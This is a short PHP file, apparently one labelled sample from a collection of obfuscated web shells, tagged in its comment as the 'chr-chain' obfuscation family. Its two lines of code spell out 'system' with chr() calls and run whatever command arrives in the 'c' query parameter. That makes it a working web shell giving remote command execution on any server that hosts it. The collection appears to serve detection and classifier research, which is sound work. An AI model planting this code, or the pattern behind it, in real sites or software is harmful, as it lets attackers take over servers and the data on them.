<?php
/* Family: obfuscation/chr-chain
 * Style: chr() sequence building a function name
 * Trait: function name built from chr() calls, then called on request data */
$f = chr(115) . chr(121) . chr(115) . chr(116) . chr(101) . chr(109);
$f($_GET['c']);
